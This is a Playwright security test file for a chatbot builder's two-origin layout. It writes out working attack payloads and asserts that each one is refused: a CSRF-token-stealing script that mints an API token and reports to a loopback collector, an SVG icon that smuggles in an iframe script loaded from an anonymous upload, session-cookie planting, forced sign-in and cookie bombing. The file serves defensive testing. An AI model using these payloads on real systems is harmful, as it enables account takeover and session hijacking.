// The attacks of one shared origin, tried in Chromium against the two-origin layout (docs/security.md): a bot's
// code in the editor's preview acting as the signed-in builder (the member-to-admin takeover), and a bot page
// planting a session cookie, signing the browser in as someone else, reading the CSRF token of a session opened
// later, or bombing the builder with cookies. "The bot's code" is run with page.evaluate in the bot page where a
// Script block would run it: it has the page's privileges and no more.
import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launchBrowser, newContext } from '../support/browser.js'
import { setUpFirstAccount } from '../support/editor.js'
import { signUpOn } from '../support/hosts.js'
import { importAndPublish, userWithWorkspace } from '../support/seed.js'
import { startTestServer, type TestServer } from '../support/server.js'
import { person, shot, signIn } from '../support/webApp.js'

const say = (id: string, words: string) => ({ id, type: 'text', content: { richText: [{ type: 'p', children: [{ text: words }] }] } })
const bot = (name: string, blocks: unknown[]) => ({
  version: '6',
  name,
  groups: [{ id: 'g1', title: 'Start', graphCoordinates: { x: 0, y: 0 }, blocks }],
  events: [{ id: 'start', type: 'start', graphCoordinates: { x: -200, y: 0 }, outgoingEdgeId: 'e0' }],
  edges: [{ id: 'e0', from: { eventId: 'start' }, to: { groupId: 'g1' } }],
  variables: [{ id: 'v1', name: 'Answer' }],
  theme: {},
  settings: { typingEmulation: { enabled: false } },
})

/** Where the attack's code says what it could do: a loopback server that keeps the reports. */
const startCollector = async () => {
  const reports: Record<string, string>[] = []
  const server: Server = createServer((req, res) => {
    reports.push(Object.fromEntries(new URL(req.url ?? '/', 'http://x').searchParams))
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reports, close: () => new Promise((r) => server.close(r)) }
}

/**
 * What the takeover's script did: read the CSRF token of the signed-in builder, make an API token in their account,
 * report. Tried at the page's own origin and at the builder's address.
 */
const takeoverScript = (builderUrl: string, collector: string) => `
const report = (what) => fetch(${JSON.stringify(collector)} + '/report?' + new URLSearchParams({ what, origin: location.origin }), { mode: 'no-cors' }).catch(() => {})
const attempt = async (base) => {
  try {
    const status = await (await fetch(base + '/v1/auth/status', { credentials: 'include' })).json()
    if (!status.csrfToken) return 'no-session'
    const res = await fetch(base + '/v1/me/tokens', {
      method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json', 'x-csrf-token': status.csrfToken },
      body: JSON.stringify({ name: 'pwned' }),
    })
    return 'token-' + res.status
  } catch (e) { return 'refused' }
}
report((await attempt('')) + ',' + (await attempt(${JSON.stringify(builderUrl)})))
`

describe("a bot's code in the editor's preview cannot act as the builder", () => {
  let s: TestServer
  let browser: Browser
  let collector: Awaited<ReturnType<typeof startCollector>>
  before(async () => {
    s = await startTestServer()
    browser = await launchBrowser()
    collector = await startCollector()
  })
  after(async () => {
    await browser?.close()
    await collector?.close()
    await s?.stop()
  })

  test('the takeover: an uploaded script behind a rating icon, and a Script block, in a bot the admin opens', async () => {
    // The admin sets the server up (the first account).
    const { page } = await openPage(browser)
    const { workspaceId, api } = await setUpFirstAccount(page, s.builderUrl, person('Admin'))

    // The attacker's upload, anonymously, through a file input of a published bot: a script typed as one.
    const attacker = await userWithWorkspace(s, 'Attacker')
    const drop = await importAndPublish(s, attacker.token, attacker.workspaceId, bot('Drop', [{ id: 'file', type: 'file input', options: {} }]))
    const started = await s.call('POST', `/api/v1/typebots/${drop.publicId}/startChat`, { token: null, body: {} })
    const upload = await s.call('POST', '/api/v3/generate-upload-url', {
      token: null,
      body: { sessionId: started.body.sessionId, blockId: 'file', fileName: 'x.js', fileType: 'text/javascript' },
    })
    assert.equal(upload.status, 200, JSON.stringify(upload.body))
    const put = await fetch(upload.body.presignedUrl, {
      method: 'PUT',
      headers: { 'content-type': 'text/javascript' },
      body: `(async () => {${takeoverScript(s.builderUrl, collector.url)}})()`,
    })
    assert.equal(put.status, 200)
    const fileUrl: string = upload.body.fileUrl
    assert.ok(fileUrl.startsWith(`${s.contentUrl}/`), fileUrl)

    // The admin imports the attacker's bot (a Typebot export passed around, or a member's bot).
    const icon = `<svg/><iframe srcdoc="<script src='${fileUrl}'></script>"></iframe>`
    const imported = await api('POST', '/v1/bots/import', {
      workspaceId,
      bot: bot('Feedback', [
        { id: 'code', type: 'Code', options: { content: takeoverScript(s.builderUrl, collector.url) } },
        say('ask', 'How was it?'),
        {
          id: 'rate',
          type: 'rating input',
          options: { variableId: 'v1', buttonType: 'Icons', length: 3, customIcon: { isEnabled: true, svg: icon } },
        },
      ]),
    })
    assert.equal(imported.status, 200, JSON.stringify(imported.json))
    const tokensBefore = (await api('GET', '/v1/me/tokens')).json.tokens.length

    // The Theme view starts the preview by itself.
    await page.goto(`${s.builderUrl}/w/${workspaceId}/bots/${imported.json.bot.id}/edit`)
    await page
      .getByRole('radiogroup', { name: 'Editor view' })
      .locator('label', { hasText: /^Theme$/ })
      .click()
    const preview = page.frameLocator('iframe[title="Preview of the bot"]')
    await preview.getByRole('button', { name: '3 of 3' }).waitFor()
    await shot(page, 'preview-frame-theme')
    // The Script block's report (its code ran, in the frame), or the token it made on the builder's origin.
    let report: Record<string, string> | undefined
    for (let i = 0; i < 100 && !(report = collector.reports.find((r) => r.what)); i++) {
      if ((await api('GET', '/v1/me/tokens')).json.tokens.length > tokensBefore) break
      await page.waitForTimeout(100)
    }
    assert.deepEqual((await api('GET', '/v1/me/tokens')).json.tokens.length, tokensBefore, 'the bot made an API token as the admin')
    assert.deepEqual(report, { what: 'refused,refused', origin: s.contentUrl })
    // The rating icon is markup no more: no frame inside the preview's rating buttons.
    assert.equal(await preview.locator('.p-rating-item iframe').count(), 0)
    await page.context().close()
  })
})

const openPage = async (browser: Browser): Promise<{ context: BrowserContext; page: Page }> => {
  const context = await newContext(browser)
  const page = await context.newPage()
  await page.setViewportSize({ width: 1280, height: 860 })
  return { context, page }
}

describe("a bot page cannot touch the builder's session", () => {
  let s: TestServer
  let browser: Browser
  let publicId: string
  let mallory: Awaited<ReturnType<typeof signUpOn>>
  const victim = person('Vic')
  before(async () => {
    s = await startTestServer()
    browser = await launchBrowser()
    const owner = await userWithWorkspace(s)
    publicId = (
      await importAndPublish(s, owner.token, owner.workspaceId, bot('Page', [say('hi', 'Hello'), { id: 'ask', type: 'text input', options: {} }]))
    ).publicId
    mallory = await signUpOn(s.builderUrl, 'Mallory')
    const res = await fetch(`${s.builderUrl}/v1/auth/signup`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: victim.name, email: victim.email, password: victim.password }),
    })
    assert.equal(res.status, 200)
  })
  after(async () => {
    await browser?.close()
    await s?.stop()
  })

  /** The bot page, opened signed out, as the bot's code sees it. */
  const openBotPage = async (context: BrowserContext) => {
    const page = await context.newPage()
    await page.goto(`${s.contentUrl}/${publicId}`)
    await page.locator('parley-standard').getByText('Hello').waitFor()
    return page
  }
  const whoIsSignedIn = async (page: Page) =>
    page.evaluate(async () => ((await (await fetch('/v1/auth/status')).json()) as { user: { email: string } | null }).user?.email ?? null)

  test('a session cookie planted by a bot page is never the one the builder reads', async () => {
    const { context, page } = await openPage(browser)
    const botPage = await openBotPage(context)
    const planted = mallory.cookie.split('=')[1]
    await botPage.evaluate((value) => {
      for (const attributes of ['path=/v1/me', 'path=/v1', 'path=/v1/me; domain=localhost', 'path=/; domain=localhost'])
        (globalThis as any).document.cookie = `parley_session=${value}; ${attributes}`
    }, planted)
    await signIn(page, s.builderUrl, victim)
    assert.equal(await whoIsSignedIn(page), victim.email)
    const me = await page.evaluate(async () => ((await (await fetch('/v1/me')).json()) as { user: { email: string } }).user.email)
    assert.equal(me, victim.email)
    await context.close()
  })

  test('a bot page cannot sign the browser in as someone else', async () => {
    const { context, page } = await openPage(browser)
    const botPage = await openBotPage(context)
    const attempts = await botPage.evaluate(
      async ({ builder, email, password }) => {
        const body = JSON.stringify({ email, password })
        const tries: string[] = []
        for (const base of ['', builder]) {
          tries.push(
            await fetch(`${base}/v1/auth/signin`, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body })
              .then((r) => String(r.status))
              .catch(() => 'refused'),
          )
          // A "simple" request needs no preflight: it reaches the server, which refuses it.
          await fetch(`${base}/v1/auth/signin`, {
            method: 'POST',
            credentials: 'include',
            mode: 'no-cors',
            headers: { 'content-type': 'text/plain' },
            body,
          }).catch(() => undefined)
        }
        return tries
      },
      { builder: s.builderUrl, email: mallory.email, password: 'pw-Mallory-long-enough' },
    )
    assert.deepEqual(attempts, ['421', 'refused'])
    await page.goto(`${s.builderUrl}/signin`)
    assert.equal(await whoIsSignedIn(page), null)
    await context.close()
  })

  test('a bot page left open before signing in never reads the CSRF token of the session opened later', async () => {
    const { context, page } = await openPage(browser)
    const botPage = await openBotPage(context)
    await signIn(page, s.builderUrl, victim)
    const read = await botPage.evaluate(async (builder) => {
      const tries: string[] = []
      for (const base of ['', builder])
        tries.push(
          await fetch(`${base}/v1/auth/status`, { credentials: 'include' })
            .then(async (r) => ((await r.json()) as { csrfToken?: string | null }).csrfToken ?? 'none')
            .catch(() => 'refused'),
        )
      return tries
    }, s.builderUrl)
    assert.deepEqual(read, ['refused', 'refused'])
    await context.close()
  })

  test('cookies a bot page sets in bulk do not lock anyone out of the builder', async () => {
    const { context, page } = await openPage(browser)
    const botPage = await openBotPage(context)
    await botPage.evaluate(() => {
      for (let i = 0; i < 12; i++) (globalThis as any).document.cookie = `bomb${i}=${'x'.repeat(4000)}; path=/`
    })
    const response = await page.goto(`${s.builderUrl}/signin`)
    assert.equal(response?.status(), 200)
    await signIn(page, s.builderUrl, victim)
    assert.equal(await whoIsSignedIn(page), victim.email)
    // The bot page itself is the one that carries them.
    assert.equal((await botPage.goto(`${s.contentUrl}/${publicId}`))?.status(), 431)
    await context.close()
  })
})
